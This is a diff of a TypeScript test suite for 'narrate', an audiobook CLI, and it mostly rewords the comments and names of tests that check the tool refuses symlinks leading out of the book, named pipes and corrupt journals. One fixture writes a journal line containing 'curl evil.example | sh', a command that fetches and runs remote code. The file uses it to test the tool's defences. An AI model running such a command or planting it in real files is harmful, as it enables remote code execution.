@@ -32,7 +32,7 @@ const png = Buffer.from('89504e470d0a1a0a0000', 'hex');
 
 let book: BookFolder;
 let outside: string;
-/** The state of the book after a draft: with it, a run speaks nothing and begins with the files. */
+/** The state of the book after a draft. With it, a run records nothing and starts with the audio files. */
 let spoken: string;
 beforeAll(async () => {
   const made = await makeBook({ chapters: 1, paragraphs: 1 });
@@ -65,10 +65,10 @@ const plant = async (path: string, target: string): Promise<void> =>
   symlink(join(outside, target), await makeAbove(path));
 const write = async (path: string, text: string): Promise<void> => writeFile(await makeAbove(path), text);
 
-/** A lock of a process that has ended: a number that Linux, macOS and Windows do not give. */
+/** The lock of a process that has ended; Linux, macOS and Windows never use this process number. */
 const deadLock = JSON.stringify({ host: hostname(), pid: 2 ** 30, processStart: '1', since: '2026-01-01' });
 
-/** A line that can be read: a journal that is mostly corrupt is refused before anything is written. */
+/** A valid line, because a mostly corrupt journal is refused before narrate writes anything. */
 const readableLine = formatEntry({
   v: 1,
   id: 'a',
@@ -79,7 +79,7 @@ const readableLine = formatEntry({
   reason: 'none',
 });
 
-/** Files that come with a repository, by the link in it that is attacked. */
+/** Files that a link needs in the repository, by the path of the link. */
 const companions: Readonly<Record<string, readonly (readonly [path: string, text: string])[]>> = {
   '.narrate/draft/journal.corrupt.jsonl': [
     ['.narrate/draft/journal.jsonl', `${readableLine}curl evil.example | sh\n`],
@@ -112,7 +112,7 @@ const folders = [
   '.narrate/cache',
 ];
 
-/** Lets a draft of the book begin with the files, where those or what is kept of them is attacked. */
+/** Lets a draft start with the audio files, if the link is one of these files or in a cache. */
 const speakBefore = async (path: string): Promise<void> => {
   if (/^audiobook\/|\/cache/.test(path))
     await cp(spoken, await makeAbove('.narrate/draft'), { recursive: true });
@@ -140,9 +140,9 @@ describe('narrate --draft in a cloned repository', () => {
     expect(status).toBe(5);
   });
 
-  /** Each is written by another part of the program; what else there is of pipes and folders is in test/files. */
+  /** Each of these is written by another part of narrate. test/files has the other cases of pipes and folders. */
   const some = files.filter((path) => !/draft\/(a-test|cover|.*(srt|chapters\.json)$)/.test(path));
-  it.runIf(hasPipes).each(some)('refuses %s as a named pipe, and does not wait for it', async (path) => {
+  it.runIf(hasPipes).each(some)('refuses %s as a named pipe without waiting for it', async (path) => {
     await speakBefore(path);
     for (const [name, text] of companions[path] ?? []) await write(name, text);
     makePipe(await makeAbove(path));
@@ -161,7 +161,7 @@ describe('narrate --draft in a cloned repository', () => {
     });
   });
 
-  it('refuses a state folder that is a link out of the book, with the code of other links', async () => {
+  it('refuses a state folder that is a link out of the book, with the code unsafe-path', async () => {
     await plant('.narrate', 'folder');
     await expect(draftHere()).rejects.toMatchObject({
       code: 'unsafe-path',
@@ -170,7 +170,7 @@ describe('narrate --draft in a cloned repository', () => {
     expect(readdirSync(join(outside, 'folder'))).toEqual([]);
   });
 
-  it('keeps its files where links within the book lead: the state and the output folder may be such', async () => {
+  it('accepts a state folder and an output folder that are links inside the book', async () => {
     for (const name of ['state', 'sound']) await mkdir(inBook(name));
     await symlink('state', inBook('.narrate'));
     await symlink('sound', inBook('audiobook'));
@@ -180,7 +180,7 @@ describe('narrate --draft in a cloned repository', () => {
     expect((await draftHere()).delivered.written).toEqual([]);
   });
 
-  it('reaches the folder of the book itself through links', async () => {
+  it('accepts a link to the folder of the book', async () => {
     const linked = join(outside, 'linked');
     await symlink(book.folder, linked);
     const { status, stderr } = await runCli(['--draft', join(linked, 'pipeline.yaml')], { cwd: outside });
@@ -189,7 +189,7 @@ describe('narrate --draft in a cloned repository', () => {
 });
 
 describe('a backup of hard links', () => {
-  it('stays as it is, byte for byte and in its times, when the book goes on', async () => {
+  it('keeps its content and times when a later run changes the book', async () => {
     await draftHere();
     const backup = join(outside, 'folder');
     await linkAll(book.folder, backup);
@@ -202,12 +202,12 @@ describe('a backup of hard links', () => {
     const options = { manifest: inBook('pipeline.yaml'), draft: true, environment, clock: later };
     expect((await run(options)).reused).toBeGreaterThan(0);
     expect(snapshotOf(backup)).toEqual(before);
-    // Of a second name, removing the first would give no space back on a full disk.
+    // Removing a file that has a second name would free no space on a full disk.
     expect((await stat(inBook('.narrate/draft/journal.jsonl.reserve'))).nlink).toBe(1);
   });
 });
 
-/** As `cp -al` does it. */
+/** Links all files of a folder into another folder, as `cp -al` does. */
 async function linkAll(from: string, to: string): Promise<void> {
   for (const entry of await readdir(from, { recursive: true, withFileTypes: true })) {
     const path = join(entry.parentPath, entry.name);
@@ -230,7 +230,7 @@ describe('narrate init', () => {
   });
 
   it.each(['chapters', 'chapters/01-one.md', 'cover.png', 'pipeline.yaml'])(
-    'writes no part of an EPUB where %s is a link, and nothing else',
+    'writes nothing of an EPUB if %s is a link',
     async (path) => {
       const epub = makeEpub({
         pages: [{ name: 'one.xhtml', body: '<h1>One</h1><p>The lamp was lit when the fog came in.</p>' }],
@@ -255,7 +255,7 @@ describe('narrate ci', () => {
   const estimate = (summary: string) =>
     runCli(['ci', 'estimate', '--summary', summary], { cwd: book.folder, env: { GITHUB_ACTIONS: '' } });
 
-  it('writes no summary through a link in the checkout, and writes one elsewhere', async () => {
+  it('writes no summary through a link in the checkout, but writes one outside of it', async () => {
     await plant('summary.md', 'file');
     await plant('out', 'folder');
     const before = snapshotOf(outside);
@@ -269,7 +269,7 @@ describe('narrate ci', () => {
   });
 });
 
-/** A book that has been recorded, with a store in its folder: everything that narrate writes there. */
+/** A recorded book with a store in its folder, so that it contains everything that narrate writes. */
 describe('each file and folder that narrate wrote', () => {
   let sandbox: Sandbox;
   let recorded: BookFolder;
@@ -296,7 +296,7 @@ describe('each file and folder that narrate wrote', () => {
   const writtenIn = (folder: string): string[] =>
     (readdirSync(folder, { recursive: true }) as string[]).filter((name) => !own.includes(name)).sort();
 
-  it('is left alone where it is a link, whatever is done with the book', async () => {
+  it('is not changed through a link by a run, verify or gc', async () => {
     const { folder } = recorded;
     const names = writtenIn(folder);
     const refused = new Set<string>();
@@ -319,12 +319,12 @@ describe('each file and folder that narrate wrote', () => {
       await cp(join(outside, 'whole'), folder, { recursive: true, preserveTimestamps: true });
     }
     expect(names.length).toBeGreaterThan(30);
-    // Recordings are read through links, and of what is done only some is touched again.
+    // Recordings are read through links, and these commands do not touch all finished files again.
     const mayStay = /^\.narrate\/takes\/|^store\/.*\/|\.damaged$|\.parts\/|^audiobook$/;
     expect(names.filter((name) => !refused.has(name) && !mayStay.test(name))).toEqual([]);
   });
 
-  it('is needed before money is spent: where recordings cannot be kept, nothing is bought', async () => {
+  it('is checked before money is spent: if recordings cannot be stored, nothing is bought', async () => {
     sandbox.reset();
     for (const name of ['takes', 'answers']) {
       await plant(`.narrate/${name}`, 'folder');
@@ -334,7 +334,7 @@ describe('each file and folder that narrate wrote', () => {
     expect(sandbox.report()).toMatchObject({ charged: 0, submissions: [] });
   });
 
-  /** An edit and a run, a check of all recordings, and a removal of those that are not used. */
+  /** Returns three actions: an edit with a run, verify, and gc. */
   const acts = (folder: string): (() => Promise<unknown>)[] => {
     const options = optionsOf(folder, sandbox);
     const later = { ...systemClock, now: () => Date.now() + 10 * 86_400_000 };
